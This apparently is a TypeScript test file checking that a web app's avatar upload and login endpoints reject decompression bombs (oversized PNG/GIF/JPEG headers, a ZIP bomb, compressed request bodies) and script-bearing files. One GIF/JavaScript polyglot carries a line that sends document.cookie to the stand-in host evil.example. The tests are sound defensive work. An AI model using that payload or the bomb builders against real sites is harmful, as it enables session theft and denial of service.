import { readdir } from 'node:fs/promises';
import path from 'node:path';
import { brotliCompressSync, constants, crc32, deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { type FormPart, multipartBody } from '../../test/multipart';
import { sessions } from '../../test/sessions';
import { createTestApp } from '../../test/test-app';
import { oneFileZip } from '../../test/zip';

// Hostile uploads beyond those of users/profile-update.api.test.ts (renamed text, SVG with
// a script, 3 MB, 2 MB + 1 byte, a 42-megapixel PNG, PNG+HTML and JPEG+ZIP polyglots):
// files whose header declares billions of pixels, archives that inflate, and compressed
// request bodies that would inflate past every limit if they were expanded in memory.

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A well-formed PNG header declaring width × height RGB pixels, followed by a few rows of data. */
function pngDeclaring(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8); // 8-bit RGB, deflate, no filter, no interlace
  const rows = deflateSync(Buffer.alloc((width * 3 + 1) * 4));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', rows),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A GIF whose screen and single frame declare width × height pixels. */
function gifDeclaring(width: number, height: number): Buffer {
  const size = Buffer.alloc(4);
  size.writeUInt16LE(width, 0);
  size.writeUInt16LE(height, 2);
  return Buffer.concat([
    Buffer.from('GIF89a', 'latin1'),
    size,
    Buffer.from([0x00, 0x00, 0x00]),
    Buffer.from([0x2c, 0, 0, 0, 0]),
    size,
    Buffer.from([0x00, 0x02, 0x02, 0x4c, 0x01, 0x00, 0x3b]),
  ]);
}

/** A baseline JPEG header (SOI, DQT, SOF0) declaring width × height, with no scan data. */
function jpegDeclaring(width: number, height: number): Buffer {
  const dqt = Buffer.concat([Buffer.from([0xff, 0xdb, 0x00, 0x43, 0x00]), Buffer.alloc(64, 1)]);
  const sof = Buffer.from([0xff, 0xc0, 0x00, 0x0b, 0x08, height >> 8, height & 0xff, width >> 8, width & 0xff, 0x01, 0x01, 0x11, 0x00]);
  return Buffer.concat([Buffer.from([0xff, 0xd8]), dqt, sof, Buffer.from([0xff, 0xd9])]);
}

describe('hostile uploads', async () => {
  const { app, container } = await createTestApp();
  const avatarsDir = path.join(container.config.dataDir, 'uploads', 'avatars');
  const storedFiles = () => readdir(avatarsDir).catch(() => [] as string[]);
  const { signedIn } = sessions(app, container);
  const upload = async (data: Buffer, filename: string, contentType = 'application/octet-stream') => {
    const parts: FormPart[] = [
      { name: 'name', value: 'Lucía' },
      { name: 'profilePicture', filename, data, contentType },
    ];
    const body = multipartBody(parts);
    const started = performance.now();
    const res = await (await signedIn()).inject({ method: 'PUT', url: '/api/user', headers: body.headers, payload: body.payload });
    return { res, ms: performance.now() - started };
  };

  it.each([
    ['a PNG', 'enorme.png', () => pngDeclaring(50_000, 50_000)],
    ['a GIF', 'enorme.gif', () => gifDeclaring(65_535, 65_535)],
    ['a JPEG', 'enorme.jpg', () => jpegDeclaring(65_500, 65_500)],
  ] as const)(
    'when %s of a few bytes declares billions of pixels (decompression bomb), then it is refused at once, without decoding',
    async (_kind, filename, make) => {
      const bomb = make();
      expect(bomb.length).toBeLessThan(200 * 1024);
      const before = await storedFiles();
      const { res, ms } = await upload(bomb, filename, 'image/png');
      expect(res.statusCode).toBe(400);
      expect(res.json().error).toBe(`El archivo ${filename} no es una imagen válida.`);
      // Decoding 50,000 × 50,000 RGB pixels would mean 7.5 GB and minutes of work.
      expect(ms).toBeLessThan(5_000);
      expect(await storedFiles()).toEqual(before);
    },
  );

  it('when the PNG bomb is fed to sharp directly, then its header really declares 2.5 gigapixels (the case above is not vacuous)', async () => {
    const meta = await sharp(pngDeclaring(50_000, 50_000), { limitInputPixels: false }).metadata();
    expect(meta.width * meta.height).toBe(2_500_000_000);
  });

  it('when a ZIP bomb (100 MB of zeros in a few kB) is uploaded as a picture, then it is refused as not an image and never inflated', async () => {
    const bomb = oneFileZip('ceros.bin', Buffer.alloc(100 * 1024 * 1024), 'deflated');
    expect(bomb.length).toBeLessThan(200 * 1024);
    const { res, ms } = await upload(bomb, 'foto.zip.png', 'image/png');
    expect(res.statusCode).toBe(400);
    expect(res.json().error).toBe('El archivo foto.zip.png no es una imagen válida.');
    expect(ms).toBeLessThan(5_000);
  });

  it('when a GIF is also a script (GIF/JavaScript polyglot), then the stored picture is a clean WebP without the script', async () => {
    const gif = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#123456' } })
      .gif()
      .toBuffer();
    const script = Buffer.from('*/=1;fetch("https://evil.example/?"+document.cookie);/*');
    const polyglot = Buffer.concat([gif, script]);
    const { res } = await upload(polyglot, 'poliglota.gif', 'image/gif');
    expect(res.statusCode).toBe(200);
    const served = await app.inject({ method: 'GET', url: res.json().profilePicture });
    expect(served.headers['content-type']).toBe('image/webp');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(served.headers['content-security-policy']).toContain('sandbox');
    expect(served.rawPayload.subarray(0, 4).toString()).toBe('RIFF');
    expect(served.rawPayload.includes('evil.example')).toBe(false);
  });

  it('when an HTML page is sent with an image name and type, then it is refused and nothing is stored', async () => {
    const html = Buffer.from('<!doctype html><html><body><script>alert(document.domain)</script></body></html>');
    const before = await storedFiles();
    const { res } = await upload(html, 'foto.jpg', 'image/jpeg');
    expect(res.statusCode).toBe(400);
    expect(res.json().error).toBe('El archivo foto.jpg no es una imagen válida.');
    expect(await storedFiles()).toEqual(before);
  });

  it('when a gzip-encoded JSON body inflates to 200 MB, then it is cut at the 1 MB body limit with a Spanish 413', async () => {
    const bomb = gzipSync(
      Buffer.concat([Buffer.from('{"email":"a@b.es","password":"'), Buffer.alloc(200 * 1024 * 1024, 0x61), Buffer.from('"}')]),
      { level: 9 },
    );
    expect(bomb.length).toBeLessThan(1024 * 1024);
    const started = performance.now();
    const res = await app.inject({
      method: 'POST',
      url: '/api/auth/login/user',
      headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' },
      payload: bomb,
    });
    expect(res.statusCode).toBe(413);
    expect(res.json().error).toBe('La petición es demasiado grande.');
    expect(performance.now() - started).toBeLessThan(5_000);
  });

  it.each(['gzip', 'deflate', 'br'])(
    'when a %s-compressed upload would inflate to a 100 MB file, then it is refused at once in Spanish (415), before anything is read',
    async (encoding) => {
      const parts: FormPart[] = [
        { name: 'name', value: 'Lucía' },
        { name: 'profilePicture', filename: 'ceros.png', data: Buffer.alloc(100 * 1024 * 1024), contentType: 'image/png' },
      ];
      const body = multipartBody(parts);
      const compressed =
        encoding === 'br'
          ? brotliCompressSync(body.payload, { params: { [constants.BROTLI_PARAM_QUALITY]: 1 } })
          : encoding === 'gzip'
            ? gzipSync(body.payload)
            : deflateSync(body.payload);
      expect(compressed.length).toBeLessThan(1024 * 1024);
      const started = performance.now();
      const res = await (await signedIn()).inject({ method: 'PUT', url: '/api/user', headers: { ...body.headers, 'content-encoding': encoding }, payload: compressed });
      expect(res.statusCode).toBe(415);
      expect(res.json().error).toBe('Envía el formulario sin comprimir.');
      expect(performance.now() - started).toBeLessThan(5_000);
    },
  );

  it('when the body claims an encoding the server does not know, then it answers 4xx in Spanish, never 500', async () => {
    const res = await app.inject({
      method: 'POST',
      url: '/api/auth/login/user',
      headers: { 'content-type': 'application/json', 'content-encoding': 'x-desconocido' },
      payload: '{}',
    });
    expect(res.statusCode).toBeGreaterThanOrEqual(400);
    expect(res.statusCode).toBeLessThan(500);
    expect(res.json().error).toMatch(/[a-z]/);
  });
});
